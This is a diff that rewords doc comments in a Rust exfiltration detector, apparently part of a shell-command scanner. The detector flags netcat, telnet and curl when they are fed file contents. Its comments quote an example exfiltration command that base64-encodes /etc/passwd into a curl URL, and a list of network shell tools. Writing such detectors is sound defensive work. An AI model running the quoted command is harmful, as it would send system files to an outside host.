@@ -1,12 +1,11 @@
-//! Files, traffic and variables that are sent to another machine
-//! (<https://attack.mitre.org/techniques/T1048/>).
+//! Exfiltration of files, traffic, and variables (<https://attack.mitre.org/techniques/T1048/>).
 
 use super::download::is_fetch;
 use super::parse::{Command, pipeline_text};
 use super::{Found, Kind};
 use crate::text::contains;
 
-/// Programs that put out what is worth taking.
+/// Programs whose output is worth stealing.
 const SOURCES: [&str; 12] = [
     "cat",
     "dd",
@@ -28,7 +27,7 @@ pub(super) fn find(commands: &[Command], found: &mut Found) {
             "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" | "telnet" => {
                 sends_file(command) || is_fed(commands, command, &SOURCES)
             }
-            // What a program counts is often sent so: `cat metrics | curl ...`.
+            // `cat` is left out, since metrics are sent so: `cat metrics | curl ...`.
             "curl" if sends_input(command) => {
                 let [_, sources @ ..] = &SOURCES;
                 is_fed(commands, command, sources)
@@ -55,14 +54,14 @@ fn sends_file(command: &Command) -> bool {
     })
 }
 
-/// `curl -d @-`, `curl -T -`.
+/// Returns whether a command sends its input: `curl -d @-`, `curl -T -`.
 fn sends_input(command: &Command) -> bool {
     command
         .arguments()
         .any(|word| word == "-" || word.ends_with("@-") || word.ends_with("=-"))
 }
 
-/// `curl http://HOST/?x=$(cat /etc/passwd | base64)`.
+/// Returns whether a URL contains data: `curl http://HOST/?x=$(cat /etc/passwd | base64)`.
 fn names_contents(command: &Command) -> bool {
     command.arguments().any(|word| {
         let is_built = contains(word, "$(") || contains(word, "`");
